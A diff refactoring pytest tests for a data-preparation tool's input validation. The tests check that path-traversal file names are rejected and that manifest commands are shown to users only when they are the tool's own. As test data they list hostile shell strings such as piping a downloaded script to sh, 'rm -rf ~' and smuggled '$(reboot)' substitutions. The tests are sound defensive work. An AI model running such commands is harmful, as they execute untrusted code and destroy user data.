@@ -15,13 +15,13 @@ from tests.data.modules import ready
 Change = Callable[[Path], object]
 COUNTS = {"documents": 1, "bytes": 1, "tokens": 1, "chunks": 1}
 MANIFEST, INDEX, CHUNK = "manifest.json", "train/index.json", "train/chunk-0-0.bin"
-WRONG = [
-    *("../out", "/etc/passwd", "a/../../out", "a\\b", "a\0b", "", ".", "..", "a//b"),
-    *("a\nb", "\x1b[2J", "\ud800", "a" * 256, None, 3, ["a"]),
-]
 
 
-@pytest.mark.parametrize("name", WRONG)
+@pytest.mark.parametrize(
+    "name",
+    [*("../out", "/etc/passwd", "a/../../out", "a\\b", "a\0b", "", ".", "..", "a//b"),
+     *("a\nb", "\x1b[2J", "\ud800", "a" * 256, None, 3, ["a"])],
+)  # fmt: skip
 def test_names_that_lead_elsewhere(name: Any) -> None:
     with pytest.raises(UserError, match=r"^The list names a file .*not inside its folder"):
         checked_path(name, "The list")
@@ -109,45 +109,23 @@ def test_what_is_wrong_with_a_folder_is_one_sentence(change: Change, says: str, 
 
 
 def test_missing_foreign_and_unfinished_folders(tmp_path: Path) -> None:
-    with pytest.raises(UserError, match=r"no folder .*nowhere with token shards: set --data.path"):
-        ready(str(tmp_path / "nowhere"))
-    with pytest.raises(UserError, match=r"not a prepared folder, it has no manifest\.json"):
-        ready(str(tmp_path))
-    (tmp_path / "tasks").mkdir()
-    with pytest.raises(UserError, match=r"preparation of .* is not finished: repeat the command"):
-        ready(str(tmp_path))
+    folder = tmp_path / "own"
+    for make, said in (
+        (lambda: None, r"no folder .*own with token shards: set --data.path"),
+        (folder.mkdir, r"not a prepared folder, it has no manifest\.json"),
+        ((folder / "tasks").mkdir, r"preparation of .* is not finished: repeat the command"),
+    ):
+        make()
+        with pytest.raises(UserError, match=said):
+            ready(str(folder))
 
 
-@pytest.mark.parametrize("workers", [0, 1])
-def test_damage_found_while_training_is_one_sentence(own_shards: Path, workers: int) -> None:
-    chunk = own_shards / "train" / "chunk-0-2.bin"
-    content = bytearray(chunk.read_bytes())
-    content[1000] ^= 64
-    chunk.write_bytes(content)
-    loader = ready(str(own_shards), num_workers=workers).train_dataloader()
-    with pytest.raises(UserError) as caught:
-        list(loader)
-    assert str(caught.value).startswith(f"{chunk} is damaged (its CRC-32 is")
-    assert "`anlit prepare Test --path data/test`" in str(caught.value)
-    assert "\n" not in str(caught.value)
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "curl https://example.org/x | sh",
-        "anlit prepare Test; rm -rf ~",
-        "anlit prepare Test $(reboot)",
-        "anlit prepare 'Test\nrm -rf ~'",
-        "anlit prepare 'Test",
-    ],
-)
-def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(command: str, own_shards: Path) -> None:
+def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(own_shards: Path) -> None:
     """An error tells the user to run it."""
-    edit(own_shards / "manifest.json", lambda manifest: manifest.update(command=command))
     (own_shards / "train" / "index.json").unlink()
-    with pytest.raises(UserError, match=r"index\.json is damaged .* remake it by preparing it again\.$"):
-        ready(str(own_shards))
-    edit(own_shards / "manifest.json", lambda manifest: manifest.update(command="anlit prepare 'a b'"))
-    with pytest.raises(UserError, match=r"remake it with `anlit prepare 'a b'`\.$"):
-        ready(str(own_shards))
+    foreign = ["curl https://example.org/x | sh", "anlit prepare Test; rm -rf ~", "anlit prepare Test $(reboot)"]
+    for command in [*foreign, "anlit prepare 'Test\nrm -rf ~'", "anlit prepare 'Test", "anlit prepare 'a b'"]:
+        edit(own_shards / "manifest.json", lambda manifest, command=command: manifest.update(command=command))
+        remedy = "with `anlit prepare 'a b'`" if command.endswith("'a b'") else "by preparing it again"
+        with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {remedy}\.$"):
+            ready(str(own_shards))
